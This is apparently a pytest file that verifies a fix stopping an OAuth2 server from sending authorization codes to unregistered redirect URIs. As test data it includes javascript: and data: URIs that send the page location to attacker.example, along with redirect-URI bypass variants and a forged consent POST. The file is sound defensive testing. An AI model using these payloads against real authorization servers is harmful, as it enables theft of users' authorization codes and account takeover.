"""H1: authorization codes sent to any host.

An application that registered no redirect URI (the default of ``artcat apps create``) had its
codes delivered wherever a crafted link said: any https host, odd schemes. Now the browser flow
needs a registered URI and an exact match (a loopback URI on any port); everything else is an
error page, with no redirect and no link. Each attack runs over real HTTP with a signed-in victim
and shows that no code is issued or delivered.
"""

from __future__ import annotations

from typing import Any

import pytest
import requests
from sqlalchemy.orm import Session, sessionmaker

from auth_server.redirects import parse_registered
from common.settings import Settings
from tests.functional.authorize_support import (
    HTTPS_CB,
    approve,
    assert_error_page,
    authorize_url,
    code_count,
)
from tests.pages import Account, form, make_account, query, sign_in
from tests.servers import LiveServer

ATTACKER = "https://attacker.example/steal"


def attempt(web: requests.Session, base: str, client_id: str, **params: str) -> requests.Response:
    """Open a crafted authorization link as the signed-in victim (no redirects followed)."""
    values = {"client_id": client_id, "response_type": "code", "state": "s", **params}
    return web.get(authorize_url(base, **values), allow_redirects=False)


def assert_nothing_delivered(r: requests.Response, sessions: sessionmaker[Session]) -> None:
    """An error page, no redirect, no link to the attacker, and no code issued."""
    assert_error_page(r)
    assert "attacker.example" not in r.text
    assert code_count(sessions) == 0


@pytest.fixture
def victim(combined_server: LiveServer, web: requests.Session, registered: Account) -> Account:
    """The victim, signed in, owning an application that registered ``HTTPS_CB`` only."""
    assert sign_in(web, combined_server.url, registered.email).status_code == 302
    return registered


def test_an_application_without_a_registered_uri_gets_no_code(
    combined_server: LiveServer,
    web: requests.Session,
    sessions: sessionmaker[Session],
    base_settings: Settings,
    clean_db: Any,
) -> None:
    base = combined_server.url
    bare = make_account(sessions, base_settings, redirect_uris=[])  # `artcat apps create`
    assert sign_in(web, base, bare.email).status_code == 302
    r = attempt(web, base, bare.client_id, redirect_uri=ATTACKER)
    assert_nothing_delivered(r, sessions)
    assert "registered no redirect URI" in r.text
    # Nor does a forged consent POST get one (a CSRF token from the victim's own session).
    token = form(web.get(f"{base}/account").text, "/account/sign_out").fields["csrf_token"]
    forged = web.post(
        f"{base}/oauth2/authorize",
        data={
            "csrf_token": token,
            "client_id": bare.client_id,
            "redirect_uri": ATTACKER,
            "response_type": "code",
            "approve": "Allow",
        },
        allow_redirects=False,
    )
    assert_nothing_delivered(forged, sessions)


@pytest.mark.parametrize(
    "redirect_uri",
    [
        "myapp://steal",  # a private-use scheme any app may claim (no reverse domain)
        "intent://steal#Intent;scheme=https;end",
        "javascript:fetch('//attacker.example/'+location)",
        "data:text/html,<script>location='//attacker.example/'+location</script>",
        "ftp://attacker.example/steal",
        "http://attacker.example/steal",
        "attacker.example:/steal",
    ],
)
def test_odd_schemes_get_no_code(
    combined_server: LiveServer,
    web: requests.Session,
    victim: Account,
    sessions: sessionmaker[Session],
    redirect_uri: str,
) -> None:
    r = attempt(web, combined_server.url, victim.client_id, redirect_uri=redirect_uri)
    assert_nothing_delivered(r, sessions)


@pytest.mark.parametrize(
    "redirect_uri",
    [
        HTTPS_CB + "/../../steal",
        HTTPS_CB + "/extra",
        HTTPS_CB + "?next=https://attacker.example/steal",
        HTTPS_CB + "&x=1",
        HTTPS_CB.replace("client.example", "client.example:444"),
        HTTPS_CB.replace("client.example", "client.example.attacker.example"),
        HTTPS_CB.replace("client.example", "CLIENT.example"),
        HTTPS_CB.replace("https://", "http://"),
        HTTPS_CB.replace("https://", "https://attacker.example@"),
        HTTPS_CB + "%2F..%2Fsteal",
        ATTACKER,
    ],
)
def test_variations_of_the_registered_uri_get_no_code(
    combined_server: LiveServer,
    web: requests.Session,
    victim: Account,
    sessions: sessionmaker[Session],
    redirect_uri: str,
) -> None:
    r = attempt(web, combined_server.url, victim.client_id, redirect_uri=redirect_uri)
    assert_nothing_delivered(r, sessions)


def test_a_missing_redirect_uri_gets_no_code(
    combined_server: LiveServer,
    web: requests.Session,
    victim: Account,
    sessions: sessionmaker[Session],
) -> None:
    # Even with exactly one URI registered, the request must name it (RFC 9700 2.1).
    r = attempt(web, combined_server.url, victim.client_id)
    assert_nothing_delivered(r, sessions)


def test_a_code_is_not_redeemed_for_another_redirect_uri(
    combined_server: LiveServer,
    web: requests.Session,
    victim: Account,
    sessions: sessionmaker[Session],
) -> None:
    base = combined_server.url
    location = approve(
        web,
        base,
        authorize_url(
            base, client_id=victim.client_id, redirect_uri=HTTPS_CB, response_type="code"
        ),
    )
    assert location.startswith(HTTPS_CB + "?")
    code = query(location)["code"]
    for redirect_uri in (ATTACKER, HTTPS_CB + "/", ""):
        r = requests.post(
            f"{base}/oauth2/access_token",
            data={
                "grant_type": "authorization_code",
                "client_id": victim.client_id,
                "client_secret": victim.client_secret,
                "code": code,
                "redirect_uri": redirect_uri,
            },
            timeout=10,
        )
        assert r.status_code == 400, r.text
        assert r.json()["error"] in ("invalid_grant", "invalid_request")
        assert "access_token" not in r.json()


def test_such_uris_cannot_be_registered() -> None:
    _, problems = parse_registered("myapp://steal\nhttp://attacker.example/\nftp://x.example/")
    assert len(problems) == 3
